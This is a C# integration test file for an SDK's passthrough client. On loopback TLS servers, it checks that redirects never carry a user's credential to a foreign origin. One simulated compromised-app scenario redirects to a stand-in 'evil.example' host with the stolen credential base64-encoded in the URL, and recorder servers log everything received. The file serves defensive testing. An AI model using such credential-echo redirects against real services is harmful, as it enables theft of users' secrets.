using System.Collections.Concurrent;
using System.Net;
using System.Net.Security;
using System.Security.Cryptography;
using System.Security.Cryptography.X509Certificates;
using System.Text;
using Integry.Sdk.IntegrationTests.TestSupport;
using Integry.Sdk.Passthrough;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Hosting.Server;
using Microsoft.AspNetCore.Hosting.Server.Features;
using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;

namespace Integry.Sdk.IntegrationTests.Trust;

/// <summary>
/// Issue 12, the leak matrix, on real sockets over real TLS. A simulated public app (<c>api.app.example</c>, its own
/// self-signed certificate, trusted by the test handler for that exact certificate only) and "evil" servers that record
/// everything; the names resolve through the guard's own resolver to public-looking addresses, and only the final
/// connect is mapped to loopback, so the SDK's address check runs unchanged. Every credential placement x every redirect
/// status x {same origin, other port, other host, https to http, echo in the URL, app -> foreign -> app}: the foreign
/// side receives nothing of the credential, in any form.
/// </summary>
[NonParallelizable]
public class LeakMatrixTests
{
    private const string AppHost = "api.app.example";
    private const string EvilHost = "evil.example";
    private static readonly IPAddress AppAddress = IPAddress.Parse("11.0.0.1");
    private static readonly IPAddress EvilAddress = IPAddress.Parse("11.0.0.2");

    private static readonly string[] Scenarios = ["same origin", "other port", "other host", "https to http", "echo in the url", "app -> foreign -> app"];
    private static readonly int[] Statuses = [301, 302, 303, 307, 308];

    private X509Certificate2 _appCertificate = null!;
    private X509Certificate2 _evilCertificate = null!;
    private Recorder _app = null!;
    private Recorder _appOtherPort = null!;
    private Recorder _appPlainHttp = null!;
    private Recorder _evil = null!;
    private readonly Dictionary<string, IntegryClient> _clients = [];

    [OneTimeSetUp]
    public async Task StartServers()
    {
        _appCertificate = SelfSigned(AppHost);
        _evilCertificate = SelfSigned(EvilHost);
        _evil = await Recorder.StartAsync(_evilCertificate, context =>
        {
            if (context.Request.Path.StartsWithSegments("/bounce", StringComparison.Ordinal))
            {
                context.Response.StatusCode = StatusCodes.Status302Found;
                context.Response.Headers.Location = $"https://{AppHost}:{_app.Port}/v1/landing";
                return Task.CompletedTask;
            }

            return context.Response.WriteAsync("{}");
        });
        _appOtherPort = await Recorder.StartAsync(_appCertificate, context => context.Response.WriteAsync("{}"));
        _appPlainHttp = await Recorder.StartAsync(null, context => context.Response.WriteAsync("{}"));
        _app = await Recorder.StartAsync(_appCertificate, AnswerAsApp);

        var network = new MappedNetwork(new Dictionary<string, IPAddress> { [AppHost] = AppAddress, [EvilHost] = EvilAddress });
        foreach (var kind in Credentials.Kinds)
        {
            var options = new PassthroughOptions { IncludeBuiltInApps = false, MaxRetries = 0, Timeout = TimeSpan.FromSeconds(15), TimeProvider = Fault.StillClock() };
            options.Apps.Add(Credentials.Place(new AppDefinition { Slug = "public-app", DisplayName = "Public App", Hosts = [$"{AppHost}:{_app.Port}"], BaseUrl = $"https://{AppHost}:{_app.Port}/v1/" }, kind));
            var credentials = new InMemoryCredentialProvider();
            credentials.Connect("user-1", "public-app", Credentials.For(kind));

            // The SDK's own handler (guard, split pools), with the test's resolver and trust in exactly the two certificates.
            var handler = PassthroughHandlerPolicy.CreatePrimaryHandler(network, sockets => sockets.SslOptions.RemoteCertificateValidationCallback = TrustOnly);
            options.Handler = handler;
            _clients[kind] = new IntegryClient(new IntegryClientOptions { UserId = "user-1", PassthroughExecutor = new PassthroughExecutor(credentials, options) });
        }
    }

    [OneTimeTearDown]
    public async Task StopServers()
    {
        foreach (var server in new[] { _app, _appOtherPort, _appPlainHttp, _evil })
        {
            if (server is not null)
            {
                await server.DisposeAsync();
            }
        }

        _appCertificate?.Dispose();
        _evilCertificate?.Dispose();
    }

    private static IEnumerable<TestCaseData> Matrix()
    {
        foreach (var kind in Credentials.Kinds)
        {
            foreach (var status in Statuses)
            {
                foreach (var scenario in Scenarios)
                {
                    yield return new TestCaseData(kind, status, scenario).SetName($"{kind} | {status} | {scenario}");
                }
            }
        }
    }

    [TestCaseSource(nameof(Matrix))]
    public async Task The_foreign_side_receives_nothing_of_the_credential(string kind, int status, string scenario)
    {
        var before = Snapshot();
        Result? result = null;
        Exception? failure = null;
        try
        {
            result = await Fault.Within(_clients[kind].PassthroughAsync("public-app", new PassthroughRequest(HttpMethod.Post, $"{Uri.EscapeDataString(scenario)}/{status}", Json("""{"payload":"body-9876"}"""))));
        }
        catch (IntegryException exception)
        {
            failure = exception;
        }

        var seen = Since(before);
        var foreign = seen.Where(entry => entry.Server != "app").ToList();
        using (Assert.EnterMultipleScope())
        {
            Assert.That(seen.Any(entry => entry.Server == "app" && Credentials.Leaked(entry.Text)), Is.True, "the app's own origin got the credential (the test can tell)");
            Assert.That(foreign.Where(entry => Credentials.Leaked(entry.Text)).Select(entry => entry.Server + ": " + entry.Text), Is.Empty, "nothing of the credential reached a foreign origin");
            if (status is 307 or 308 && scenario is not "same origin")
            {
                Assert.That(foreign.Where(entry => entry.Text.Contains("body-9876", StringComparison.Ordinal)), Is.Empty, "no body followed a 307/308 to a foreign origin");
            }

            Assert.That(Credentials.Leaked(failure?.ToString() ?? result!.ToJson()), Is.False, "nothing the caller sees shows the credential");
        }

        Fault.Report(
            $"TLS leak matrix: {kind} | {status} | {scenario}",
            failure is null ? Fault.Describe(result!) : Fault.Describe(failure),
            $"app: {seen.Count(entry => entry.Server == "app")} request(s) with the credential; foreign: {(foreign.Count == 0 ? "nothing" : string.Join(", ", foreign.Select(entry => entry.Server + " " + entry.Text.Split('\n')[0])))}, none with the credential");
    }

    private async Task AnswerAsApp(HttpContext context)
    {
        var path = Uri.UnescapeDataString(context.Request.Path.Value ?? string.Empty);
        var parts = path.Trim('/').Split('/');
        if (parts is not ["v1", var scenario, var code] || !int.TryParse(code, out var status))
        {
            await context.Response.WriteAsync("""{"landed":true}""");
            return;
        }

        context.Response.StatusCode = status;
        context.Response.Headers.Location = scenario switch
        {
            "same origin" => $"https://{AppHost}:{_app.Port}/v1/landing",
            "other port" => $"https://{AppHost}:{_appOtherPort.Port}/landing",
            "other host" => $"https://{EvilHost}:{_evil.Port}/landing",
            "https to http" => $"http://{AppHost}:{_appPlainHttp.Port}/landing",
            "echo in the url" => $"https://{EvilHost}:{_evil.Port}/cb?leak={Base64Url(CredentialSeenBy(context))}",
            _ => $"https://{EvilHost}:{_evil.Port}/bounce",
        };
    }

    /// <summary>What the app received as the credential, which a compromised app would echo.</summary>
    private static string CredentialSeenBy(HttpContext context)
    {
        foreach (var name in new[] { "Authorization", "X-Api-Key", "X-Custom-Auth" })
        {
            if (context.Request.Headers.TryGetValue(name, out var value))
            {
                return value.ToString().Split(' ').Last();
            }
        }

        return context.Request.Query["api_key"].ToString() is { Length: > 0 } key ? key : context.Request.Query["custom_sig"].ToString();
    }

    private static string Base64Url(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text)).Replace('+', '-').Replace('/', '_').TrimEnd('=');

    private bool TrustOnly(object sender, X509Certificate? certificate, X509Chain? chain, SslPolicyErrors errors) =>
        certificate is not null
        && (certificate.GetCertHashString(HashAlgorithmName.SHA256) == _appCertificate.GetCertHashString(HashAlgorithmName.SHA256)
            || certificate.GetCertHashString(HashAlgorithmName.SHA256) == _evilCertificate.GetCertHashString(HashAlgorithmName.SHA256));

    private Dictionary<string, int> Snapshot() => new()
    {
        ["app"] = _app.Seen.Count,
        ["app other port"] = _appOtherPort.Seen.Count,
        ["app over http"] = _appPlainHttp.Seen.Count,
        ["evil"] = _evil.Seen.Count,
    };

    private List<(string Server, string Text)> Since(Dictionary<string, int> before) =>
        new[] { ("app", _app), ("app other port", _appOtherPort), ("app over http", _appPlainHttp), ("evil", _evil) }
            .SelectMany(pair => pair.Item2.Seen.Skip(before[pair.Item1]).Select(text => (pair.Item1, text)))
            .ToList();

    private static System.Text.Json.JsonElement Json(string json)
    {
        using var document = System.Text.Json.JsonDocument.Parse(json);
        return document.RootElement.Clone();
    }

    private static X509Certificate2 SelfSigned(string host)
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        var request = new CertificateRequest($"CN={host}", key, HashAlgorithmName.SHA256);
        var names = new SubjectAlternativeNameBuilder();
        names.AddDnsName(host);
        request.CertificateExtensions.Add(names.Build());
        request.CertificateExtensions.Add(new X509EnhancedKeyUsageExtension([new Oid("1.3.6.1.5.5.7.3.1")], false));
        using var certificate = request.CreateSelfSigned(DateTimeOffset.UtcNow.AddDays(-1), DateTimeOffset.UtcNow.AddDays(7));

        // Re-imported from PKCS#12 so the TLS stack on every platform can use its private key.
        return X509CertificateLoader.LoadPkcs12(certificate.Export(X509ContentType.Pkcs12), null);
    }

    /// <summary>The test's DNS: its names resolve to public-looking addresses (which the guard checks as it would any);
    /// only the connect itself goes to the loopback server on the same port.</summary>
    private sealed class MappedNetwork(Dictionary<string, IPAddress> names) : OnwardNetwork
    {
        public override ValueTask<IPAddress[]> ResolveAsync(string host, CancellationToken cancellationToken) =>
            names.TryGetValue(host, out var address) ? ValueTask.FromResult<IPAddress[]>([address]) : base.ResolveAsync(host, cancellationToken);

        public override ValueTask<Stream> ConnectAsync(IPAddress[] addresses, int port, CancellationToken cancellationToken) =>
            base.ConnectAsync(addresses.All(names.ContainsValue) ? [IPAddress.Loopback] : addresses, port, cancellationToken);
    }

    /// <summary>A Kestrel server on 127.0.0.1 (https with the given certificate, or http) that records every request whole.</summary>
    private sealed class Recorder : IAsyncDisposable
    {
        private readonly WebApplication _web;

        private Recorder(WebApplication web) => _web = web;

        public ConcurrentQueue<string> Seen { get; } = new();

        public int Port { get; private set; }

        public static async Task<Recorder> StartAsync(X509Certificate2? certificate, Func<HttpContext, Task> handler)
        {
            var builder = WebApplication.CreateSlimBuilder();
            builder.Logging.ClearProviders();
            builder.WebHost.UseKestrelHttpsConfiguration();
            builder.WebHost.ConfigureKestrel(kestrel => kestrel.Listen(IPAddress.Loopback, 0, listen =>
            {
                if (certificate is not null)
                {
                    listen.UseHttps(certificate);
                }
            }));
            var web = builder.Build();
            var recorder = new Recorder(web);
            web.Run(async context =>
            {
                using var reader = new StreamReader(context.Request.Body);
                var body = await reader.ReadToEndAsync(context.RequestAborted);
                recorder.Seen.Enqueue($"{context.Request.Method} {context.Request.Path}{context.Request.QueryString}\n{string.Join("\n", context.Request.Headers.Select(header => header.Key + ": " + header.Value))}\n{body}");
                await handler(context);
            });
            await web.StartAsync();
            var address = web.Services.GetRequiredService<IServer>().Features.Get<IServerAddressesFeature>()!.Addresses.Single();
            recorder.Port = new Uri(address).Port;
            return recorder;
        }

        public async ValueTask DisposeAsync()
        {
            await _web.StopAsync();
            await _web.DisposeAsync();
        }
    }
}
